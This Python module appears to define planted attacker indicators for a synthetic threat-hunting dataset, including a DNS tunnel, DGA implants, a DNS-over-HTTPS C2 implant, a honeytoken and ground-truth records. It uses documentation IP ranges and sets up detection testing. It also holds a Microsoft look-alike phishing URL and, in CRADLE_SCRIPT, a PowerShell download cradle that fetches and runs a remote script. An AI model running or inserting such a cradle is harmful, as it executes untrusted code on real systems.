"""What is planted where: the one place hunts, tests and passive DNS take planted indicators from.

Attacker infrastructure uses RFC 5737 documentation addresses (192.0.2.0/24, 198.51.100.0/24) so no real
host is ever painted malicious; the domains are fictitious look-alikes.
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import datetime

from .fleet import workstation_short

TUNNEL_DOMAIN = "cdn-telemetry-sync.com"
TUNNEL_NS_IP = "198.51.100.53"
TUNNEL_HOST = workstation_short(2)  # ws-eng-021

DGA_HOST = workstation_short(11)  # ws-sales-032
DGA_C2_IP = "192.0.2.144"
DGA_NAMES_PER_DAY = 128
DGA_RESOLVING_INDEX = 77

# a dictionary-DGA implant (incidents.dictionary_dga): names glued from two word lists of our own, never
# answered; each name reads like a company's, the day's 64 together are a grid of 8 words by 8
DICT_DGA_HOST = workstation_short(13)  # ws-mkt-007
DICT_DGA_WORDS_PER_DAY = 8  # of each list: the day's names are every pairing of the two picks
DICT_DGA_LEADS = (
    "amber", "basket", "candle", "copper", "dinner", "engine", "feather", "finger", "garden", "hollow", "insect",
    "jacket", "kettle", "ladder", "marble", "mirror", "needle", "orange", "pencil", "pepper", "rabbit", "saddle",
    "ticket", "velvet", "walnut", "window", "yellow", "zipper", "lantern", "parcel", "quartz", "tulip",
)
DICT_DGA_TRAILS = (
    "answer", "bottle", "button", "circle", "doctor", "effort", "flower", "garage", "hammer", "island", "kitten",
    "lemon", "market", "number", "office", "planet", "record", "season", "throat", "valley", "wonder", "shadow",
    "pocket", "letter", "monkey", "castle", "bridge", "cotton", "spring", "thunder", "pillow", "saucer",
)
DICT_DGA_NAMES_PER_DAY = DICT_DGA_WORDS_PER_DAY**2

LDAP_HOST = workstation_short(4)  # ws-it-002

PHISH_HOST = workstation_short(8)  # ws-fin-012
PHISH_DOMAIN = "login-micros0ft-verify.com"
PHISH_IP = "198.51.100.77"
PHISH_URL = (
    f"https://{PHISH_DOMAIN}/owa/auth?client_id=00000002-0000-0ff1-ce00-000000000000"
    "&login_hint=p.silva%40contoso.com&sso_reload=true"
)

CRADLE_HOST = workstation_short(9)  # ws-hr-005
CRADLE_DOMAIN = "officecdn-update.net"
CRADLE_IP = "192.0.2.201"
CRADLE_URL = f"http://{CRADLE_DOMAIN}/a.ps1"
CRADLE_SCRIPT = f"IEX (New-Object Net.WebClient).DownloadString('{CRADLE_URL}')"

# a user switched Chrome's "Use secure DNS" to Cloudflare: after one look-up in the clear, the browser's
# look-ups go over HTTPS to Cloudflare's Chrome endpoint, past the DNS log (public addresses, not attacker's)
DOH_HOST = workstation_short(6)  # ws-ops-009
DOH_ENDPOINT = "chrome.cloudflare-dns.com"
DOH_IPS = ("162.159.61.3", "172.64.41.3")

# an implant that runs its C2 over DNS-over-HTTPS: it sends its queries to Google's resolver by address,
# so nothing of it reaches the DNS log; only the connections show, from a process that is not a browser
DOH_C2_HOST = workstation_short(7)  # ws-legal-003
DOH_C2_IPS = ("8.8.8.8", "8.8.4.4")
DOH_C2_PROCESS = "OneDriveSync.exe"

# the security team's bait: a Canarytokens "Windows folder" token in a file share's Passwords folder. Its
# desktop.ini points Explorer's icon at \\%USERNAME%.%COMPUTERNAME%.%USERDOMAIN%.INI.<token>.canarytokens.com,
# so whoever opens the folder resolves a name that tells the service (and the DNS log) who and where
HONEYTOKEN_HOST = LDAP_HOST  # the recon host: the same intruder browses the shares next
HONEYTOKEN_ID = "q7m2vx9k4t1bzr8hn5cw3yfd6"  # the token's id (public, in its host name): 25 characters
HONEYTOKEN_FOLDER = r"\\fs01\it$\Passwords"
HONEYTOKEN_ZONE = "canarytokens.com"
HONEYTOKEN_IP = "198.51.100.150"  # stands in for the service's address (documentation range)

ZAP_URL = "https://docs-share-portal.com/view/Q4-bonus-review.html"


@dataclass(frozen=True)
class GroundTruth:
    incident: str
    kind: str
    device_name: str
    device_id: str
    entity: str
    detail: str
    first_seen: datetime
    last_seen: datetime

    def row(self) -> dict:
        return {k: getattr(self, k) for k in self.__dataclass_fields__}
